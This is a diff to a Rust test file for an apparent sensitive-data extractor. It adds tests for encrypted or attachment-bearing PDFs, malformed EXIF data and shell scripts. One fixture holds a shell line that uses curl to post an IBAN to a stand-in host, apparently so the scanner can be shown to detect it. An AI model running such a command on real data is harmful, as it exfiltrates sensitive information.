@@ -314,7 +314,7 @@ fn pdf_page_text_info_xmp() {
         pages: vec!["page one", &page_two],
         info: vec![("Author", IBAN), ("Keywords", "k (with) parens")],
         xmp: Some(&xmp),
-        encrypted: false,
+        ..docs::PdfSpec::default()
     };
     let t = extract(&docs::pdf_from(&spec), FileKind::Pdf);
     assert_has(&t, &format!("{SECRET}-p2"), "pdf second page");
@@ -331,6 +331,16 @@ fn pdf_encrypted_garbage_truncated() {
         ..docs::PdfSpec::default()
     };
     let err = text(FileKind::Pdf, &docs::pdf_from(&spec), MAX).unwrap_err();
+    assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");
+
+    let spec = docs::PdfSpec {
+        pages: vec!["cover letter"],
+        attachment: Some(("secret.docx", &docs::docx(SECRET))),
+        ..docs::PdfSpec::default()
+    };
+    let with_attachment = docs::pdf_from(&spec);
+    assert_eq!(sniff(&with_attachment), FileKind::Pdf);
+    let err = text(FileKind::Pdf, &with_attachment, MAX).unwrap_err();
     assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");
 
     let err = text(FileKind::Pdf, b"%PDF-1.4\ngarbage garbage", MAX).unwrap_err();
@@ -436,6 +446,20 @@ fn jpeg_truncated_and_bad_exif() {
 }
 
 #[test]
+fn exif_with_one_broken_entry_gives_the_others() {
+    let mut description = format!("{SECRET}-description").into_bytes();
+    description.push(0);
+    let mut artist = format!("{IBAN} artist").into_bytes();
+    artist.push(0);
+    let mut tiff = docs::exif_tiff(&[(0x010e, 2, description), (0x013b, 2, artist)]);
+    // the second entry's value offset (IFD at 8, count, 12-byte entries) points nowhere
+    tiff[30..34].copy_from_slice(&0xffff_ff00u32.to_le_bytes());
+    let t = extract(&docs::jpeg_with_exif_data(&tiff), FileKind::Jpeg);
+    assert_has(&t, &format!("{SECRET}-description"), "intact EXIF entry");
+    assert!(!t.contains(IBAN), "{t:?}");
+}
+
+#[test]
 fn gif_and_webp_metadata() {
     let long = format!("{}{}", "x".repeat(300), both());
     let t = extract(&docs::gif_with_comment(&long), FileKind::Gif);
@@ -476,6 +500,12 @@ fn kinds_without_text_and_ole() {
     ] {
         assert!(text(kind, b"anything", MAX).unwrap().is_none(), "{kind}");
     }
+    let script = format!("#!/bin/sh\ncurl -d '{IBAN}' https://x.example/\n");
+    assert_has(
+        &extract(script.as_bytes(), FileKind::Script),
+        IBAN,
+        "script",
+    );
     let err = text(FileKind::Ole, b"\xd0\xcf\x11\xe0", MAX).unwrap_err();
     assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");
 }
